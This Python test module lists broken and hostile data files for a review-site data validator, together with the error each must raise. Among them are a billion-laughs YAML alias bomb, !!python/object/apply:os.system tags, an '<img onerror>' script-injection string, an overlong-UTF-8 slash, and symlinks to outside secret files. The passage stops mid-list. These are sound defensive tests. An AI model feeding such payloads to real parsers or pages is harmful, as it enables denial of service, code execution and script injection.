"""A corpus of broken and hostile data files, by category, with where each mistake must be reported.

Each case changes a copy of data/ (the real schemas and vocabularies, and the sample review of
conftest.VALID_REVIEW, or all of the shipped data for `base="shipped"`) and says which problems the
check must report: (file, line, column, a fragment of the message). Cases with no expected problem
must pass. tests/test_validation.py runs every case through the check, and the command line.
"""
from __future__ import annotations

import json
import os
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable, Union

from conftest import VALID_REVIEW

REVIEW = "reviews/sample-review.yml"
SCHEMA = "schemas/review.schema.json"
TOPICS = "vocabularies/topics.yml"
CQC = "vocabularies/cqc-framework.yml"
BEXLEY = "reviews/bexley-asc-peer-challenge.yml"
BRIEFING = "briefings/bexley-peer-challenge-safeguarding-learning-summary.yml"

# A file's new content (text, bytes), None to delete it, or a function that makes it (links, pipes).
Content = Union[str, bytes, None, Callable[[Path, Path], None]]


@dataclass
class Case:
    id: str
    category: str
    files: dict[str, Content]
    expect: list[tuple[str, int, int | None, str]] = field(default_factory=list)
    only: bool = False  # the expected problems are all the problems there are
    absent: tuple[str, ...] = ()  # text no message may show (personal data, a linked file's content)
    base: str = "sample"  # "sample": vocabularies and the sample review; "shipped": all of data/


def edit(old: str, new: str, text: str = VALID_REVIEW) -> str:
    assert old in text, old
    return text.replace(old, new, 1)


def finding_text(text: str) -> str:
    """The sample review with its finding's text replaced (written as a YAML double-quoted scalar)."""
    return edit("text: Something good.", f"text: {json.dumps(text, ensure_ascii=False)}")


def shipped(path: str) -> str:
    from conftest import DATA

    return (DATA / path).read_text(encoding="utf-8")


def shipped_edit(path: str, old: str, new: str) -> str:
    return edit(old, new, shipped(path))


def schema_edit(old: str, new: str, name: str = "review") -> str:
    return edit(old, new, shipped(f"schemas/{name}.schema.json"))


def bomb(levels: int = 9, width: int = 9) -> str:
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for level in range(1, levels):
        lines.append(f"a{level}: &a{level} [" + ", ".join([f"*a{level - 1}"] * width) + "]")
    return "\n".join(lines) + "\n"


def link_to(target: str) -> Callable[[Path, Path], None]:
    def make(path: Path, data: Path) -> None:
        resolved = Path(target) if target.startswith("/") else data / target
        path.symlink_to(resolved)
    return make


def outside_file(path: Path, data: Path) -> None:
    secret = data.parent / "secret.yml"
    secret.write_text("password: hunter2-very-secret\n", encoding="utf-8")
    path.symlink_to(secret)


def pipe(path: Path, data: Path) -> None:
    os.mkfifo(path)


def folder_link(path: Path, data: Path) -> None:
    path.symlink_to(data / "vocabularies", target_is_directory=True)


def deep_sections(levels: int) -> str:
    """The sample review with `levels` sections nested one inside the other, a finding in the deepest."""
    lines = VALID_REVIEW[:VALID_REVIEW.index("sections:")].splitlines() + ["sections:"]
    for level in range(levels):
        pad = "  " * (2 * level)
        lines += [f"{pad}  - id: s{level}", f"{pad}    heading: Level {level}"]
        if level == 0:
            lines.append(f"{pad}    cqc_theme: ensuring-safety")
        if level < levels - 1:
            lines.append(f"{pad}    sections:")
    pad = "  " * (2 * (levels - 1))
    lines += [f"{pad}    findings:", f"{pad}      - id: deep-finding", f"{pad}        kind: strength",
              f"{pad}        title: Deep", f"{pad}        text: Deep down."]
    return "\n".join(lines) + "\n"


E = Case  # short, for the table below
_TOO_DEEP = "nested more than 40 deep"
_UTF8 = "is not UTF-8 text"

CASES: list[Case] = [
    # -- encodings -------------------------------------------------------------------------------
    E("windows-1252 byte in a title", "encodings",
      {REVIEW: VALID_REVIEW.encode().replace(b"Sample review", b"Caf\xe9 review")},
      [(REVIEW, 3, 11, "byte 0xE9 is not UTF-8 text (perhaps 'é'")], only=True),
    E("windows-1252 curly quote in a finding", "encodings",
      {REVIEW: VALID_REVIEW.encode().replace(b"Something good.", b"\x93Something\x94 good.")},
      [(REVIEW, 25, 15, "byte 0x93"), (REVIEW, 25, 25, "byte 0x94")], only=True),
    E("latin-1 pound sign", "encodings", {REVIEW: VALID_REVIEW.encode().replace(b"A sample", b"A \xa3100 sample")},
      [(REVIEW, 15, 15, _UTF8)], only=True),
    E("truncated multi-byte character at the end", "encodings", {REVIEW: VALID_REVIEW.encode() + b"# \xe2\x80"},
      [(REVIEW, 27, 3, _UTF8)], only=True),
    E("lone continuation byte", "encodings", {REVIEW: VALID_REVIEW.encode().replace(b"council\n", b"coun\x80cil\n")},
      [(REVIEW, 9, 15, "byte 0x80")], only=True),
    E("overlong encoding of a slash", "encodings", {REVIEW: VALID_REVIEW.encode().replace(b"sample.txt", b"a\xc0\xafb.txt")},
      [(REVIEW, 14, 14, _UTF8)]),
    E("many bad bytes are listed ten at a time", "encodings",
      {REVIEW: VALID_REVIEW.encode() + b"# " + b"\xff" * 30 + b"\n" + b"# \xfe\n" * 15},
      [(REVIEW, 27, 3, "byte 0xFF"), (REVIEW, 36, 3, "byte 0xFE"), (REVIEW, 37, 3, "and 6 more like the above")]),
    E("UTF-16 with a byte order mark", "encodings", {REVIEW: VALID_REVIEW.encode("utf-16")},
      [(REVIEW, 1, 1, "saved as UTF-16 text; save it as UTF-8")], only=True),
    E("UTF-16 big-endian", "encodings", {REVIEW: b"\xfe\xff" + VALID_REVIEW.encode("utf-16-be")},
      [(REVIEW, 1, 1, "UTF-16")], only=True),
    E("UTF-16 without a byte order mark", "encodings", {REVIEW: VALID_REVIEW.encode("utf-16-le")},
      [(REVIEW, 1, 2, "U+0000 (NUL)")]),
    E("UTF-8 byte order mark is accepted", "encodings", {REVIEW: b"\xef\xbb\xbf" + VALID_REVIEW.encode()}),
    E("UTF-8 byte order mark, a mistake still placed on line and column", "encodings",
      {REVIEW: b"\xef\xbb\xbf" + edit("kind: strength", "kind: strenght").encode()},
      [(REVIEW, 23, 15, "did you mean 'strength'")], only=True),
    E("NUL character", "encodings", {REVIEW: edit("A sample", "A sam\x00ple")},
      [(REVIEW, 15, 18, "U+0000 (NUL) is not allowed")], only=True),
    E("form feed from a PDF", "encodings", {REVIEW: edit("Something good.", "Something\x0c good.")},
      [(REVIEW, 25, 24, "U+000C (form feed, a page break)")], only=True),
    E("vertical tab", "encodings", {REVIEW: edit("Strengths", "Stren\x0bgths")},
      [(REVIEW, 19, 19, "U+000B (vertical tab)")], only=True),
    E("backspace", "encodings", {REVIEW: edit("title: A strength", "title: A\x08 strength")},
      [(REVIEW, 24, 17, "U+0008 (backspace)")], only=True),
    E("escape character", "encodings", {REVIEW: edit("url: unknown", "url: \x1b[31munknown")},
      [(REVIEW, 16, 8, "U+001B (escape)")], only=True),
    E("delete character", "encodings", {REVIEW: edit("A sample", "A sample\x7f")},
      [(REVIEW, 15, 21, "U+007F (delete)")], only=True),
    E("C1 control character", "encodings", {REVIEW: edit("A sample", "A \x9b sample")},
      [(REVIEW, 15, 15, "U+009B")], only=True),
    E("NUL in a vocabulary", "encodings",
      {TOPICS: shipped_edit(TOPICS, "name: Practice topics", "name: Practice\x00 topics")},
      [(TOPICS, 3, 15, "U+0000 (NUL)")], only=True),
    E("control character written as an escape in a title", "encodings",
      {REVIEW: edit("title: Sample review", 'title: "Sample\\x01 review"')},
      [(REVIEW, 3, 8, "title: holds U+0001")], only=True),
    E("NUL written as an escape in a finding", "encodings", {REVIEW: finding_text("Good\u0000 work")},
      [(REVIEW, 25, 15, "text: holds U+0000 (NUL)")], only=True),
    E("half a surrogate pair written as an escape", "encodings",
      {REVIEW: edit("title: A strength", 'title: "A \\ud800 strength"')},
      [(REVIEW, 24, 16, "invalid Unicode character escape code")], only=True),
    E("non-character written as an escape", "encodings",
      {REVIEW: edit("heading: Strengths", 'heading: "Strengths\\uffff"')},
      [(REVIEW, 19, 14, "heading: holds U+FFFF")], only=True),
    E("carriage return written as an escape", "encodings",
      {REVIEW: edit("citation: A sample", 'citation: "A\\r sample"')},
      [(REVIEW, 15, 13, "citation: holds U+000D")], only=True),
    E("non-English text is accepted", "encodings",
      {REVIEW: finding_text("Partnerships with Cymraeg speakers: “diolch”, café, naïve, 日本, emoji 🙂.")}),

    # -- line endings and white space -----------------------------------------------------------
    E("Windows line endings are accepted", "line endings", {REVIEW: VALID_REVIEW.replace("\n", "\r\n")}),
    E("Windows line endings, a mistake placed on its line", "line endings",
      {REVIEW: edit("kind: strength", "kind: strenght").replace("\n", "\r\n")},
      [(REVIEW, 23, 15, "unknown kind of finding")], only=True),
    E("old Mac line endings, a mistake placed on its line", "line endings",
      {REVIEW: edit("kind: strength", "kind: strenght").replace("\n", "\r")},
      [(REVIEW, 23, 15, "unknown kind of finding")], only=True),
    E("no line break at the end is accepted", "line endings", {REVIEW: VALID_REVIEW.rstrip("\n")}),
    E("trailing spaces are accepted", "line endings", {REVIEW: VALID_REVIEW.replace("\n", "   \n")}),
    E("tab before a field", "line endings", {REVIEW: edit("    role: council", "\trole: council")},
      [(REVIEW, 9, None, "use spaces, not tabs")], only=True),
    E("control characters on a Windows line are placed on it", "line endings",
      {REVIEW: edit("A sample", "A\x00sample").replace("\n", "\r\n")},
      [(REVIEW, 15, 14, "U+0000")], only=True),
    E("a line separator, a line break editors do not show", "line endings",
      {REVIEW: edit("Something good.", "Something\u2028good.")},
      [(REVIEW, 25, 24, "U+2028 (line separator, a line break editors do not show)")], only=True),
    E("a next-line character", "line endings", {REVIEW: edit("A sample", "A\x85sample")},
      [(REVIEW, 15, 14, "U+0085")], only=True),

    # -- sizes ---------------------------------------------------------------------------------------
    E("file larger than 1 MB", "sizes", {REVIEW: VALID_REVIEW + "# " + "x" * (1024 * 1024) + "\n"},
      [(REVIEW, 1, 1, "larger than 1 MB")], only=True),
    E("a million empty lines are read in bounded time", "sizes", {REVIEW: VALID_REVIEW + "\n" * 1_000_000}),
    E("more than 100,000 values", "sizes", {REVIEW: "x: [" + "1," * 100_001 + "1]\n"},
      [(REVIEW, 1, 199_999, "more than 100,000 values")], only=True),
    E("a text of 10,001 characters", "sizes", {REVIEW: finding_text("word " * 2000 + "x")},
      [(REVIEW, 25, 15, "text: 10,001 characters is more than one value may hold")], only=True),
    E("a text of 10,000 characters is accepted", "sizes", {REVIEW: finding_text("word " * 1999 + "last.")}),
    E("a text of 201 lines", "sizes", {REVIEW: finding_text("line\n" * 200 + "end")},
      [(REVIEW, 25, 15, "201 lines")], only=True),
    E("a title of 9,000 characters on one line", "sizes",
      {REVIEW: edit("title: Sample review", "title: " + "long " * 1800)}),
    E("a field name of 1,000 characters is shown short", "sizes",
      {REVIEW: edit("title: Sample review\n", "title: Sample review\n" + "k" * 1000 + ": x\n")},
      [(REVIEW, 4, 1, "unknown field 'kkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkk...'")], only=True),
    E("a field name of 5,000 characters", "sizes",
      {REVIEW: edit("title: Sample review\n", "title: Sample review\n" + "k" * 5000 + ": x\n")},
      [(REVIEW, 4, 5001, "YAML syntax error: could not find expected ':'")], only=True),
    E("more than 50 link brackets in one text", "sizes", {REVIEW: finding_text("[" * 51)},
      [(REVIEW, 25, 15, "holds 51 '[' characters")], only=True),
    E("more than 50 backticks in one text", "sizes", {REVIEW: finding_text("`a" * 60)},
      [(REVIEW, 25, 15, "holds 60 '`' characters")], only=True),
    E("twenty links in one text are accepted", "sizes",
      {REVIEW: finding_text(" ".join(f"[source {i}](https://example.org/{i})" for i in range(20)))}),

    # -- deep nesting --------------------------------------------------------------------------------
    E("flow lists nested 5,000 deep", "deep nesting", {REVIEW: "x: " + "[" * 5000 + "]" * 5000 + "\n"},
      [(REVIEW, 1, 43, _TOO_DEEP)], only=True),
    E("flow mappings nested 5,000 deep", "deep nesting", {REVIEW: "x: " + "{a: " * 5000 + "1" + "}" * 5000 + "\n"},
      [(REVIEW, 1, None, _TOO_DEEP)], only=True),
    E("block lists nested 100 deep", "deep nesting",
      {REVIEW: "x:\n" + "".join("  " * i + "-\n" for i in range(100)) + "  " * 100 + "- end\n"},
      [(REVIEW, 41, None, _TOO_DEEP)], only=True),
    E("block mappings nested 100 deep", "deep nesting",
      {REVIEW: "".join("  " * i + f"k{i}:\n" for i in range(100)) + "  " * 100 + "end\n"},
      [(REVIEW, 41, None, _TOO_DEEP)], only=True),
    E("a one-line list of dashes nested 2,000 deep", "deep nesting", {REVIEW: "- " * 2000 + "x\n"},
      [(REVIEW, 1, 81, _TOO_DEEP)], only=True),
    E("complex keys nested deep", "deep nesting", {REVIEW: "? " * 500 + "x\n"},
      [(REVIEW, 1, None, _TOO_DEEP)], only=True),
    E("sections nested 7 deep", "deep nesting", {REVIEW: deep_sections(7)},
      [(REVIEW, 36, 25, "sections: sections are nested more than 6 deep here")], only=True),
    E("sections nested 6 deep are accepted", "deep nesting", {REVIEW: deep_sections(6)}),
    E("sections nested 300 deep", "deep nesting", {REVIEW: deep_sections(300)},
      [(REVIEW, 76, 81, _TOO_DEEP)], only=True),
    E("Markdown lists nested 9 deep in a text", "deep nesting",
      {REVIEW: finding_text("\n".join("    " * i + "- item" for i in range(9)))},
      [(REVIEW, 25, 15, "lists or quotes are nested more than 8 deep")], only=True),
    E("Markdown numbered items nested on one line", "deep nesting", {REVIEW: finding_text("1. " * 300 + "x")},
      [(REVIEW, 25, 15, "nested more than 8 deep")], only=True),
    E("Markdown quotes nested 20 deep", "deep nesting", {REVIEW: finding_text("> " * 20 + "quoted")},
      [(REVIEW, 25, 15, "nested more than 8 deep")], only=True),
    E("Markdown lists nested 3 deep are accepted", "deep nesting",
      {REVIEW: finding_text("Points:\n\n- one\n    - two\n        - three")}),

    # -- tags --------------------------------------------------------------------------------------------
    E("!!int on a hexadecimal number", "tags", {REVIEW: edit("topics: [carers]", "topics: [carers]\n        paragraph: !!int 0x1F")},
      [(REVIEW, 27, 20, "!!int says the value is a whole number, but '0x1F' is not one")], only=True),
    E("!!float on words", "tags", {REVIEW: edit("topics: [carers]", "topics: [carers]\n        paragraph: !!float forty-three")},
      [(REVIEW, 27, 20, "!!float says the value is a number, but 'forty-three'")]),
    E("!!bool on yes", "tags", {REVIEW: edit("title: A strength", "title: !!bool yes")},
      [(REVIEW, 24, 16, "!!bool says the value is true or false, but 'yes'")]),
    E("!!null on text", "tags", {REVIEW: edit("title: A strength", "title: !!null text")},
      [(REVIEW, 24, 16, "!!null says the value is empty")]),
    E("!!int of 5,000 digits", "tags", {REVIEW: edit("topics: [carers]", "topics: [carers]\n        paragraph: !!int " + "9" * 5000)},
      [(REVIEW, 27, 20, "!!int says the value is a whole number")]),
    E("!!python/tuple on a list", "tags", {REVIEW: edit("topics: [carers]", "topics: !!python/tuple [carers]")},
      [(REVIEW, 26, 17, "unsupported YAML tag !!python/tuple")], only=True),
    E("!!python/object/apply on a mapping", "tags",
      {REVIEW: edit("dates:\n  report: 2024-05", "dates: !!python/object/apply:os.system\n  report: 2024-05")},
      [(REVIEW, 10, 8, "unsupported YAML tag !!python/object/apply:os.system")]),
    E("!!python/name on text", "tags", {REVIEW: edit("A sample", "!!python/name:os.system")},
      [(REVIEW, 15, 13, "unsupported YAML tag !!python/name:os.system")], only=True),
    E("!!set", "tags", {REVIEW: edit("topics: [carers]", "topics: !!set {carers: null}")},
      [(REVIEW, 26, 17, "unsupported YAML tag !!set")]),
    E("!!omap", "tags", {REVIEW: edit("topics: [carers]", "topics: !!omap [carers: 1]")},
      [(REVIEW, 26, 17, "unsupported YAML tag !!omap")]),
    E("!!binary", "tags", {REVIEW: edit("A sample", "!!binary aGVsbG8=")},
      [(REVIEW, 15, 13, "unsupported YAML tag !!binary")], only=True),
    E("!!timestamp", "tags", {REVIEW: edit("report: 2024-05", "report: !!timestamp 2024-05-01")},
      [(REVIEW, 11, 11, "unsupported YAML tag !!timestamp")], only=True),
    E("a local tag", "tags", {REVIEW: edit("A sample", "!secret A sample")},
      [(REVIEW, 15, 13, "unsupported YAML tag !secret")], only=True),
    E("a verbatim tag", "tags", {REVIEW: edit("A sample", "!<tag:example.com,2026:x> A sample")},
      [(REVIEW, 15, 13, "unsupported YAML tag tag:example.com,2026:x")], only=True),
    E("a %TAG directive", "tags", {REVIEW: "%TAG !e! tag:example.com,2026:\n---\n" + edit("A sample", "!e!x A sample")},
      [(REVIEW, 17, 13, "unsupported YAML tag tag:example.com,2026:x")], only=True),
    E("!!seq on text", "tags", {REVIEW: edit("A sample", "!!seq A sample")},
      [(REVIEW, 15, 13, "unsupported YAML tag !!seq")], only=True),
    E("!!map on a list", "tags", {REVIEW: edit("topics: [carers]", "topics: !!map [carers]")},
      [(REVIEW, 26, 17, "unsupported YAML tag !!map")], only=True),
    E("!!str on a number is accepted", "tags", {REVIEW: edit("title: A strength", "title: !!str 12")}),
    E("!!int on a paragraph number is accepted", "tags",
      {REVIEW: edit("topics: [carers]", "topics: [carers]\n        paragraph: !!int 12")}),
    E("the non-specific tag ! is accepted", "tags", {REVIEW: edit("title: A strength", "title: ! 12")}),

    # -- anchors, aliases and merge keys -------------------------------------------------------------
    E("alias bomb (billion laughs)", "anchors", {REVIEW: bomb()},
      [(REVIEW, 5, 10, "repeat more than 10,000 values")], only=True),
    E("alias bomb, five levels of ten", "anchors", {REVIEW: bomb(5, 10)},
      [(REVIEW, 4, 50, "repeat more than 10,000 values")], only=True),
    E("more than 100 aliases", "anchors", {REVIEW: "a: &a x\nb: [" + ", ".join(["*a"] * 101) + "]\n"},
      [(REVIEW, 2, 405, "more than 100 aliases")], only=True),
    E("an alias inside the list it stands for", "anchors", {REVIEW: edit("topics: [carers]", "topics: &t [carers, *t]")},
      [(REVIEW, 26, 29, "the alias *t is inside the value it stands for")], only=True),
    E("an alias inside the mapping it stands for", "anchors", {REVIEW: "&m {a: *m}\n"},
      [(REVIEW, 1, 8, "the alias *m is inside the value")]),
    E("an unknown alias", "anchors", {REVIEW: edit("citation: A sample", "citation: *sample")},
      [(REVIEW, 15, 13, "unknown alias *sample")]),
    E("an anchor defined twice", "anchors",
      {REVIEW: edit("citation: A sample", "citation: &c A sample").replace("url: unknown", "url: &c unknown")},
      [(REVIEW, 16, 8, "the anchor &c is defined twice (first at line 15)")], only=True),
    E("a merge key", "anchors", {REVIEW: edit("dates:\n  report: 2024-05", "dates:\n  <<: {report: 2024-05}")},
      [(REVIEW, 11, 3, "merge keys (<<) are not supported")]),
    E("a merge key with an alias", "anchors",
      {REVIEW: edit("  - name: Sample Council", "  - &org\n    name: Sample Council")
       .replace("      - id: sample-finding", "      - <<: *org\n        id: sample-finding")},
      [(REVIEW, 23, 9, "merge keys (<<) are not supported")], only=True),
    E("an alias as a field name", "anchors", {REVIEW: edit("citation: A sample", "citation: &k A sample\n  *k : x")},
      [(REVIEW, 16, 3, "a field name must be plain text")]),
    E("a list as a field name", "anchors", {REVIEW: edit("citation: A sample", "citation: A sample\n  ? [a, b]\n  : x")},
      [(REVIEW, 16, 5, "a field name must be plain text")], only=True),
    E("an anchor used for a list of topics is accepted", "anchors",
      {REVIEW: edit("topics: [carers]", "topics: &t [carers]\n        principles: [empowerment]")}),
    E("a list repeated through an alias is accepted", "anchors",
      {REVIEW: edit("cqc_theme: ensuring-safety", "cqc_theme: &theme ensuring-safety").replace(
          "        topics: [carers]", "        topics: [carers]\n        cqc_theme: *theme")}),

    # -- numbers ----------------------------------------------------------------------------------------
    E("a number of 5,000 digits", "numbers",
      {REVIEW: edit("topics: [carers]", "topics: [carers]\n        paragraph: " + "9" * 5000)},
      [(REVIEW, 27, 20, "paragraph: the number 9999999999999999999999999999999999999... is too large")], only=True),
    E("1e999 as a metric's value", "numbers",
      {REVIEW: edit("topics: [carers]", "topics: [carers]\n        metrics:\n          - measure: Wait\n"
                                        "            value: 1e999\n            unit: days")},
      [(REVIEW, 29, 20, "value: the number 1e999 is too large: numbers are finite and below 1,000,000,000,000,000")],
      only=True),
    E("-1e999 as a metric's value", "numbers",
      {REVIEW: edit("topics: [carers]", "topics: [carers]\n        metrics:\n          - measure: Wait\n"
                                        "            value: -1e999\n            unit: days")},
      [(REVIEW, 29, 20, "value: the number -1e999 is too large")], only=True),
    E("a number of 16 digits", "numbers",
      {REVIEW: edit("topics: [carers]", "topics: [carers]\n        paragraph: 1000000000000000")},
      [(REVIEW, 27, 20, "too large")], only=True),
    E(".nan as a metric's value", "numbers",
      {REVIEW: edit("topics: [carers]", "topics: [carers]\n        metrics:\n          - measure: Wait\n"
                                        "            value: .nan\n            unit: days")},
      [(REVIEW, 29, 20, "value: expected a number, found the text '.nan'")], only=True),
    E("a 5,000-digit number where text is wanted stays text", "numbers",
      {REVIEW: edit("title: A strength", "title: " + "1" * 5000)}),
    E("1e999 as a title stays text", "numbers", {REVIEW: edit("title: A strength", "title: 1e999")}),
    E("leading zeros are accepted", "numbers",
      {REVIEW: edit("topics: [carers]", "topics: [carers]\n        paragraph: 0000000000000000000012")}),
    E("a number with underscores is text", "numbers",
      {REVIEW: edit("topics: [carers]", "topics: [carers]\n        paragraph: 1_000")},
      [(REVIEW, 27, 20, "paragraph: expected a whole number, found the text '1_000'")], only=True),

    # -- schema files -------------------------------------------------------------------------------------
    E("a trailing comma in a schema", "schema files", {SCHEMA: schema_edit('"sections"\n  ],', '"sections",\n  ],')},
      [(SCHEMA, 18, 3, "not valid JSON: Expecting value")], only=True),
    E("an unknown type in a schema", "schema files",
      {SCHEMA: schema_edit('"type": "object",\n  "additionalProperties": false,', '"type": "objekt",\n  "additionalProperties": false,')},
      [(SCHEMA, 6, 11, "not a valid JSON Schema: 'objekt' is not valid")], only=True),
    E("a pattern that is not a regular expression", "schema files",
      {SCHEMA: schema_edit('"pattern": "^[a-z0-9]+(-[a-z0-9]+)*$",', '"pattern": "^[a-z0-9+(",')},
      [(SCHEMA, None, None, "not a valid JSON Schema")], only=True),
    E("a $ref that leads nowhere", "schema files", {SCHEMA: schema_edit('"$ref": "#/$defs/line"', '"$ref": "#/$defs/lines"')},
      [(SCHEMA, 25, 15, "$ref: '#/$defs/lines' leads nowhere")], only=True),
    E("a $ref to another file", "schema files", {SCHEMA: schema_edit('"$ref": "#/$defs/line"', '"$ref": "https://example.org/x.json"')},
      [(SCHEMA, 25, 15, "$ref: 'https://example.org/x.json' leads nowhere")], only=True),
    E("a $ref to an anchor no part of the schema has", "schema files",
      {SCHEMA: schema_edit('"$ref": "#/$defs/line"', '"$ref": "#title-line"')},
      [(SCHEMA, 25, 15, "$ref: '#title-line' leads nowhere")], only=True),
    E("a $ref to an anchor is accepted", "schema files",
      {SCHEMA: schema_edit('"$ref": "#/$defs/line"', '"$ref": "#title-line"').replace(
          '"line": {\n      "type": "string",', '"line": {\n      "$anchor": "title-line",\n      "type": "string",', 1)}),
    E("a schema that is a list", "schema files", {SCHEMA: "[]"},
      [(SCHEMA, 1, 1, "a schema file holds one JSON object")], only=True),
    E("an empty schema file", "schema files", {SCHEMA: ""},
      [(SCHEMA, 1, 1, "not valid JSON")], only=True),
    E("a missing schema file", "schema files", {SCHEMA: None},
      [(SCHEMA, 1, 1, "missing schema file review.schema.json")], only=True),
    E("a schema nested 2,000 deep", "schema files", {SCHEMA: '{"a": ' * 2000 + "1" + "}" * 2000},
      [(SCHEMA, 1, 1, "nested more than 40 deep")], only=True),
    E("a schema with a number of 5,000 digits", "schema files", {SCHEMA: '{"minimum": ' + "9" * 5000 + "}"},
      [(SCHEMA, 1, 1, "cannot be read as JSON")], only=True),
    E("a schema not in UTF-8", "schema files", {SCHEMA: shipped(SCHEMA).encode().replace(b"Review", b"R\xe9view", 1)},
      [(SCHEMA, 4, 14, _UTF8)], only=True),
    E("a schema with a byte order mark is accepted", "schema files", {SCHEMA: b"\xef\xbb\xbf" + shipped(SCHEMA).encode()}),
    E("a vocabulary's schema broken: its files are not checked against it", "schema files",
      {"schemas/vocabulary.schema.json": "{,}"},
      [("schemas/vocabulary.schema.json", 1, 2, "not valid JSON")], only=True),
    E("a schema loosened below what the site needs", "schema files",
      {SCHEMA: schema_edit('"required": [\n    "id",\n    "title",', '"required": [\n    "id",'),
       REVIEW: edit("title: Sample review\n", "")},
      [(REVIEW, 1, 1, "the site cannot use this file (no 'title')")], only=True),
    E("an unknown schema file", "schema files", {"schemas/reviews.schema.json": "{}"},
      [("schemas/reviews.schema.json", 1, 1, "unknown schema file (did you mean 'review.schema.json'?)")], only=True),
    E("an e-mail address in a schema", "schema files",
      {SCHEMA: schema_edit('"title": "Review",', '"title": "Review by jo.bloggs@example.org",')},
      [(SCHEMA, 4, 23, "personal data: an e-mail address")], only=True, absent=("jo.bloggs@example.org",)),

    # -- vocabularies -----------------------------------------------------------------------------------
    E("a syntax error in topics.yml is one message", "vocabularies",
      {TOPICS: shipped_edit(TOPICS, "name: Practice topics", "name: Practice: topics")},
      [(TOPICS, 3, 15, "YAML syntax error")], only=True),
    E("topics.yml with its list misnamed: no knock-on unknown topics", "vocabularies",
      {TOPICS: shipped_edit(TOPICS, "\nterms:", "\nterm:")},
      [(TOPICS, 8, 1, "unknown field 'term' (did you mean 'terms'?)"), (TOPICS, 2, 1, "missing required field 'terms'")],
      only=True),
    E("a syntax error in the CQC framework: no knock-on unknown themes", "vocabularies",
      {CQC: shipped_edit(CQC, "scores:", "scores: [")}, [(CQC, None, None, "YAML syntax error")], only=True),
    E("a score wording removed from the CQC framework", "vocabularies",
      {CQC: shipped_edit(CQC, "  - score: 3\n    wording: Evidence shows a good standard\n", "")},
      [(CQC, 151, 1, "scores: no wording for score 3")], only=True),
    E("a score given two wordings", "vocabularies",
      {CQC: shipped_edit(CQC, "  - score: 3\n", "  - score: 4\n")},
      [(CQC, 154, 12, "score: 4 is given a wording twice (first at line 152)"), (CQC, 151, 1, "no wording for score 3")],
      only=True),
    E("a review's score with no wording", "vocabularies",
      {CQC: shipped_edit(CQC, "  - score: 3\n    wording: Evidence shows a good standard\n", ""),
       REVIEW: edit("sections:", "scores:\n  - quality_statement: safe-systems\n    score: 3\nsections:")},
      [(REVIEW, 19, 12, "score: no wording for score 3"), (CQC, 151, 1, "no wording for score 3")], only=True),
    E("a mapping as a quality statement's id", "vocabularies",
      {CQC: shipped_edit(CQC, "      - id: safe-systems", "      - id: {safe: systems}")},
      [(CQC, 93, 13, "id: expected text, found a mapping of fields")], only=True),
    E("a list as a score", "vocabularies", {CQC: shipped_edit(CQC, "  - score: 3\n", "  - score: [3]\n")},
      [(CQC, 154, 12, "score: expected a whole number, found a list"), (CQC, 151, 1, "no wording for score 3")],
      only=True),
    E("a number as the organisations", "vocabularies",
      {REVIEW: edit("organisations:\n  - name: Sample Council\n    role: council", "organisations: 5")},
      [(REVIEW, 7, 16, "organisations: expected a list, found the number 5")], only=True),
    E("a missing vocabulary file", "vocabularies", {"vocabularies/principles.yml": None},
      [("vocabularies/principles.yml", 1, 1, "missing vocabulary file principles.yml")], only=True),
    E("a missing facet registry", "vocabularies", {"vocabularies/facets.yml": None},
      [("vocabularies/facets.yml", 1, 1, "missing vocabulary file facets.yml")], only=True),
    E("a facet registry that cannot be parsed", "vocabularies", {"vocabularies/facets.yml": "facets: [\n  - id: topic\n"},
      [("vocabularies/facets.yml", None, None, "")], only=True),
    E("a vocabulary saved twice", "vocabularies", {"vocabularies/topics.yaml": shipped(TOPICS)},
      [("vocabularies/topics.yml", 1, 1, "a second file for the vocabulary topics")], only=True),
    E("an unknown vocabulary file", "vocabularies", {"vocabularies/topic.yml": "a: b\n"},
      [("vocabularies/topic.yml", 1, 1, "unknown vocabulary file (did you mean 'topics'?)")], only=True),
    E("a topic defined twice", "vocabularies",
      {TOPICS: shipped_edit(TOPICS, "terms:\n", "terms:\n  - id: carers\n    name: Carers again\n    description: Twice.\n")},
      [(TOPICS, None, None, "'carers' is defined twice")], only=True),
    E("an escape writing a control character in a glossary expansion", "vocabularies",
      {"vocabularies/glossary.yml": shipped_edit("vocabularies/glossary.yml", "expansion: Making Safeguarding Personal",
                                                 'expansion: "Making\\x07 Safeguarding Personal"')},
      [("vocabularies/glossary.yml", None, None, "expansion: holds U+0007")], only=True),
    E("markup in a glossary expansion, which every page shows as a tooltip", "vocabularies",
      {"vocabularies/glossary.yml": shipped_edit("vocabularies/glossary.yml", "expansion: Making Safeguarding Personal",
                                                 'expansion: "Making <img src=x onerror=alert(1)> Personal"')},
      [("vocabularies/glossary.yml", 85, 16, "must be one line of plain text, without < or >")],
      only=True),

    # -- reviews: what the build needs ---------------------------------------------------------------
    E("an impossible report date", "dates", {REVIEW: edit("report: 2024-05", "report: 2015-02-30")},
      [(REVIEW, 11, 11, "report: 2015-02-30 is not a day of the calendar")], only=True),
    E("29 February in a year that is not a leap year", "dates", {REVIEW: edit("report: 2024-05", "report: \"2026-02-29\"")},
      [(REVIEW, 11, 11, "not a day of the calendar")], only=True),
    E("29 February in a leap year is accepted", "dates", {REVIEW: edit("report: 2024-05", "report: 2024-02-29")}),
    E("an impossible added date", "dates", {REVIEW: edit("sections:", 'added: "2026-02-30"\nsections:')},
      [(REVIEW, 17, 8, "added: 2026-02-30 is not a day of the calendar")], only=True),
    E("year 0000", "dates", {REVIEW: edit("sections:", 'added: "0000-01-01"\nsections:')},
      [(REVIEW, 17, 8, "not a day of the calendar")], only=True),
    E("an impossible fieldwork date", "dates", {REVIEW: edit("report: 2024-05", "report: 2024-05\n  fieldwork_from: 2024-04-31")},
      [(REVIEW, 12, 19, "fieldwork_from: 2024-04-31 is not a day")], only=True),
    E("an impossible briefing date", "dates",
      {BRIEFING: shipped_edit(BRIEFING, 'date: "2026-11-25"', 'date: "2026-02-30"')},
      [(BRIEFING, 5, 7, "date: 2026-02-30 is not a day of the calendar")], only=True, base="shipped"),

    # -- briefings and knock-on errors -------------------------------------------------------------
    E("a syntax error in a cited review: no knock-on unknown findings", "briefings",
      {BEXLEY: shipped_edit(BEXLEY, "\ntitle: ", "\ntitle: [")},
      [(BEXLEY, None, None, "YAML syntax error")], only=True, base="shipped"),
    E("a NUL in a cited review: no knock-on unknown findings", "briefings",
